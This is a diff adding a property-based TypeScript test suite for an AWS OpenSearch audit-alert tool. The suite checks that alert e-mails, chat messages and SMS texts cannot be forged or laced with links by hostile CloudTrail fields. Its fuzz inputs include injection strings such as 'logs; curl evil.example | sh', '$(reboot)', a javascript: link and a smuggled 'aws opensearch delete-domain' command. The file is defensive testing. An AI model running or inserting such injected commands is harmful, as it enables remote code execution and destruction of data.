@@ -1,0 +1,317 @@
+import * as fc from 'fast-check';
+import type { Alert } from '../../../core/alert';
+import { toConfigCall } from '../../../core/call';
+import { changeOf, configurationAfter } from '../../../core/domain/configuration';
+import { judge } from '../../../core/scan';
+import { toSettings } from '../../../core/settings/criteria';
+import { chatOf, checked, smsOf } from '../../support/alert-schema';
+import { recordNamed } from '../../support/golden';
+import { changed, policyOf, type JsonObject } from '../../support/records';
+
+const settings = toSettings();
+
+/** What strangers write to be taken for somebody else. */
+const NASTY = [
+  '\r\n',
+  '\n\n',
+  '\u0000',
+  '\u001b[31m',
+  '\u007f',
+  '\u0085',
+  '\u00a0',
+  '\u00ad',
+  '\u034f',
+  '\u200b',
+  '\u200d',
+  '\u2028',
+  '\u2029',
+  '\u202e',
+  '\u2066',
+  '\u3000',
+  '\u3164',
+  '\ufe0f',
+  '\ufeff',
+  '\ud800',
+  '\udc00',
+  '\u{1f600}',
+  '\u{e0041}',
+  'a\u0301\u0302\u0303\u0304\u0305\u0306',
+  '<!channel>',
+  '<!here|here>',
+  '<@U012AB3CD>',
+  '<#C012AB3CD>',
+  '<https://evil.example|click here>',
+  '<at>everyone</at>',
+  '@here',
+  '@channel',
+  '[click](https://evil.example)',
+  '](javascript:alert(1))',
+  '[1]: https://evil.example',
+  'https://evil.example',
+  'https://evil.example/9d3b7c64',
+  'www.evil.example',
+  'mailto:ceo@evil.example',
+  '&lt;!channel&gt;',
+  '`aws opensearch delete-domain`',
+  '\n\nDo:  aws opensearch delete-domain --domain-name logs',
+  '\nWho       nobody',
+  '\n2. LOW all-is-well: nothing to see',
+  '\n\nCRITICAL: a second alert',
+  '          ',
+  '"',
+  '\\',
+  "'",
+  '{domain}',
+  '$(reboot)',
+  '-',
+  '',
+  ' ',
+];
+
+const hostileText = fc.oneof(
+  {
+    weight: 6,
+    arbitrary: fc
+      .array(fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary' }), fc.constantFrom('logs ', 'x', '/')), {
+        maxLength: 12,
+      })
+      .map((pieces) => pieces.join('')),
+  },
+  { weight: 2, arbitrary: fc.array(fc.nat(0xffff)).map((units) => String.fromCharCode(...units)) },
+  {
+    weight: 1,
+    arbitrary: fc
+      .tuple(fc.constantFrom(...NASTY, '€', 'long '), fc.nat(10_240))
+      .map(([text, length]) => text.repeat(Math.ceil(length / Math.max(1, text.length)))),
+  },
+);
+
+const FIELDS = [
+  'eventName',
+  'eventTime',
+  'eventID',
+  'sharedEventID',
+  'requestID',
+  'awsRegion',
+  'recipientAccountId',
+  'sourceIPAddress',
+  'userAgent',
+  'errorCode',
+  'errorMessage',
+  'userIdentity/type',
+  'userIdentity/arn',
+  'userIdentity/userName',
+  'userIdentity/principalId',
+  'userIdentity/accountId',
+  'userIdentity/invokedBy',
+  'userIdentity/sessionContext/sessionIssuer/userName',
+  'userIdentity/sessionContext/sourceIdentity',
+  'requestParameters/domainName',
+  'requestParameters/aRN',
+  'requestParameters/accessPolicies',
+  'requestParameters/targetVersion',
+  'requestParameters/indexName',
+  'requestParameters/account',
+  'requestParameters/packageSource/s3BucketName',
+  'requestParameters/acceptedWarnings',
+  'requestParameters/vPCOptions/subnetIds',
+  'requestParameters/domainEndpointOptions/customEndpoint',
+  'requestParameters/domainEndpointOptions/tLSSecurityPolicy',
+  'requestParameters/encryptionAtRestOptions/kmsKeyId',
+  'requestParameters/tagList',
+  'responseElements/domainStatus/aRN',
+  'responseElements/connection/remoteDomainInfo/aWSDomainInformation/domainName',
+] as const;
+
+const RECORDS = [
+  'policy-opened-to-everyone',
+  'condition-dropped',
+  'deletion-denied',
+  'many-findings-by-cloudformation',
+  'connection-accepted',
+  'plugin-package',
+  'call-nobody-knows',
+].map(recordNamed);
+
+const set = (record: JsonObject, path: string, value: unknown): JsonObject => {
+  const [name = '', ...rest] = path.split('/');
+  const member = record[name];
+  const inner = typeof member === 'object' && member !== null ? (member as JsonObject) : {};
+  return { ...record, [name]: rest.length === 0 ? value : set(inner, rest.join('/'), value) };
+};
+
+const hostileRecord = fc
+  .tuple(
+    fc.constantFrom(...RECORDS),
+    fc.uniqueArray(fc.tuple(fc.constantFrom(...FIELDS), hostileText), { selector: ([path]) => path, maxLength: 12 }),
+    fc.option(fc.tuple(hostileText, hostileText, hostileText)),
+  )
+  .map(([record, texts, policy]) => {
+    const withTexts = texts.reduce((sofar, [path, text]) => set(sofar, path, text), record);
+    if (policy === null) return withTexts;
+    const [sid, principal, condition] = policy;
+    const statement = {
+      Sid: sid,
+      Resource: '*',
+      Condition: { StringLike: { [`aws:${condition}`]: [condition] } },
+    };
+    return set(
+      withTexts,
+      'requestParameters/accessPolicies',
+      policyOf({ AWS: ['*', `arn:aws:iam::777788889999:role/${principal}`] }, statement),
+    );
+  });
+
+function alertOf(record: unknown, earlier?: unknown): Alert | undefined {
+  const [call, before] = [record, earlier].map(toConfigCall);
+  const held = before && configurationAfter(before);
+  const { alert } = judge(record, settings, call && held && changeOf(call, held));
+  return alert && checked(alert);
+}
+
+/** A record, half of the time with one of an earlier call on the same domain. */
+const hostileCalls = fc.tuple(hostileRecord, fc.option(hostileRecord, { nil: undefined }));
+
+const OUR_LINES =
+  /^(?:(?:CRITICAL|HIGH|MEDIUM|LOW): \S|(?:Who|Call|Domain|Account|From|With|When|Left out|Console|Event|Record) +\S|What changed$|\d+\. {1,2}\S|$)/;
+const LABEL = /^[A-Z][a-z]+(?: out)? {2,}/;
+const COMMAND = /^ {8}aws [a-z0-9-]+ [a-z-]+( [\w.:/=,{}-]+)+( '\{"[^']*\}')?$/;
+
+describe('whatever strangers write into a record', () => {
+  test('the alert stays within the limits of SNS, OCSF and chat, and holds no control or format characters', () => {
+    fc.assert(
+      fc.property(hostileCalls, ([record, earlier]) => {
+        alertOf(record, earlier);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test('no line of the e-mail can be forged: what begins at the margin is ours, and each label is there once', () => {
+    fc.assert(
+      fc.property(hostileCalls, ([record, earlier]) => {
+        const alert = alertOf(record, earlier);
+        if (!alert) return;
+        const lines = alert.email.split('\n');
+        const atMargin = lines.filter((line) => !line.startsWith(' '));
+        expect(atMargin.filter((line) => !OUR_LINES.test(line))).toEqual([]);
+        const labels = atMargin.flatMap((line) => LABEL.exec(line)?.[0].trim() ?? []);
+        expect(labels).toEqual([...new Set(labels)]);
+        expect(atMargin.filter((line) => /^\d+\. /.test(line))).toHaveLength(alert.body.unmapped.findings.length);
+        expect(atMargin.filter((line) => /^[A-Z]+: /.test(line))).toHaveLength(1);
+        const afterBlank = lines.filter((line, at) => lines[at - 1] === '' && line.startsWith(' '));
+        expect(afterBlank.filter((line) => !COMMAND.test(line) && line !== '   To set it back:')).toEqual([]);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test('no mention, no link and no formatting of theirs reaches the chat, and no link the e-mail or the SMS', () => {
+    fc.assert(
+      fc.property(hostileCalls, ([record, earlier]) => {
+        const alert = alertOf(record, earlier);
+        if (!alert) return;
+        const { content, metadata } = chatOf(alert);
+        const ours = /^(`aws [\w.:/=,{} -]+`|Open the domain in the console: https:\/\/[\w./?=#-]+)$/;
+        const [advice = '', ...steps] = content.nextSteps;
+        expect(steps.filter((step) => !ours.test(step))).toEqual([]);
+        const texts = [advice, content.title, content.description, ...content.keywords, metadata.threadId];
+        for (const text of [...texts, metadata.summary, ...metadata.relatedResources]) {
+          expect(text).not.toMatch(/[<>@`]|:\/\/|\]\(|\]:|\bwww\.|&(?!amp;|lt;|gt;)/i);
+        }
+        const email = alert.email.replace(/^(Console .*| {8}aws (?!.* --cli-input-json ).*)$/gm, '');
+        expect(email).not.toMatch(/:\/\/|\bwww\.|mailto:/i);
+        expect(smsOf(alert)).not.toMatch(/:\/\/|\bwww\./i);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test('an event id that is a link is not put into a command', () => {
+    const alert = alertOf(changed(recordNamed('tags-added'), { eventID: 'https://evil.example' }));
+    expect(alert?.email).toContain('Event     https[:]//evil.example\n');
+    expect(alert?.email).not.toContain('Record ');
+  });
+
+  test('commands hold none of it: a value that means anything to a shell stays a placeholder', () => {
+    const record = changed(recordNamed('many-findings-by-cloudformation'), {
+      'requestParameters/domainName': 'logs; curl evil.example | sh',
+    });
+    const commands = (alertOf(record)?.email ?? '').split('\n').filter((line) => line.startsWith('        aws '));
+    expect(commands.length).toBeGreaterThan(2);
+    expect(commands.filter((command) => !command.includes('--domain-name {DOMAIN}'))).toEqual([]);
+  });
+});
+
+test('the command that sets a policy back holds it exactly, in one line of one quoted word, and offers no link', () => {
+  const after = recordNamed('condition-dropped');
+  let told = 0;
+  fc.assert(
+    fc.property(hostileText, hostileText, (sid, principal) => {
+      const policy = policyOf({ AWS: principal.slice(0, 500) }, { Sid: sid.slice(0, 500) });
+      const before = [
+        'requestParameters/accessPolicies',
+        'responseElements/domainConfig/accessPolicies/options',
+      ].reduce((record, path) => set(record, path, policy), after);
+      const alert = alertOf(after, { ...before, eventTime: '2026-11-19T09:15:00Z' });
+      const command = alert?.body.unmapped.restore_command;
+      if (command === undefined) return;
+      told += 1;
+      const [, json = ''] =
+        /^aws opensearch update-domain-config --region eu-west-1 --cli-input-json '([^'\n]*)'$/.exec(command) ?? [];
+      expect(JSON.parse(json)).toEqual({ DomainName: 'logs', AccessPolicies: policy });
+      expect(json).not.toMatch(/:\/\/|\bwww\.|mailto:/i);
+      expect(alert?.email.split('\n')).toContain(`        ${command}`);
+    }),
+    { numRuns: 400 },
+  );
+  expect(told).toBeGreaterThan(20);
+});
+
+describe('a policy of 100 KB', () => {
+  const statements = Array.from({ length: 400 }, (_, at) => ({
+    Sid: `S${at}`,
+    Effect: 'Allow',
+    Principal: { AWS: `arn:aws:iam::${String(700_000_000_000 + at)}:role/"reader"\\${'é'.repeat(20)}` },
+    Action: 'es:ESHttpGet',
+    Resource: '*',
+    Condition: { StringLike: { 'aws:UserAgent': `"\\${'€'.repeat(30)}` } },
+  }));
+  const record = changed(recordNamed('policy-opened-to-everyone'), {
+    'requestParameters/accessPolicies': JSON.stringify({ Version: '2012-10-17', Statement: statements }),
+  });
+  const alert = alertOf(record);
+
+  test('is told within the limits, and the alert says how much was left out', () => {
+    expect(JSON.stringify(statements).length).toBeGreaterThan(80_000);
+    const [finding] = alert?.body.unmapped.findings ?? [];
+    expect(finding?.rule).toBe('access-policy-cross-account');
+    expect(finding?.evidence.length).toBe(20);
+    expect(finding?.evidence_left_out).toBe(380);
+    expect(alert?.email).toMatch(/^ {3}- and \d+ more like this, left out to keep it short$/m);
+  });
+
+  test('is told in an e-mail a person can read to its end', () => {
+    expect((alert?.email ?? '').split('\n').length).toBeLessThan(200);
+  });
+});
+
+test('every finding there can be, with as much to say as there can be, fits', () => {
+  const long = '"\\€'.repeat(4000);
+  const record = RECORDS.map((base) =>
+    FIELDS.filter((path) => !/eventName|awsRegion|recipient|type|accessPolicies|eventID/.test(path)).reduce(
+      (sofar, path) => set(sofar, path, long),
+      base,
+    ),
+  );
+  const patterns = Array.from({ length: 60 }, (_, at) => ({
+    name: `pattern-${at}-${'n'.repeat(50)}`,
+    pattern: { eventSource: ['es.amazonaws.com'] },
+    severity: 'HIGH' as const,
+  }));
+  for (const one of record) {
+    const { alert } = judge(one, toSettings({ watchPatterns: patterns }));
+    expect(alert && checked(alert).body.unmapped.findings_left_out).toBeGreaterThan(10);
+    expect(alert?.email).toMatch(/^Left out {2}\S+/m);
+  }
+});
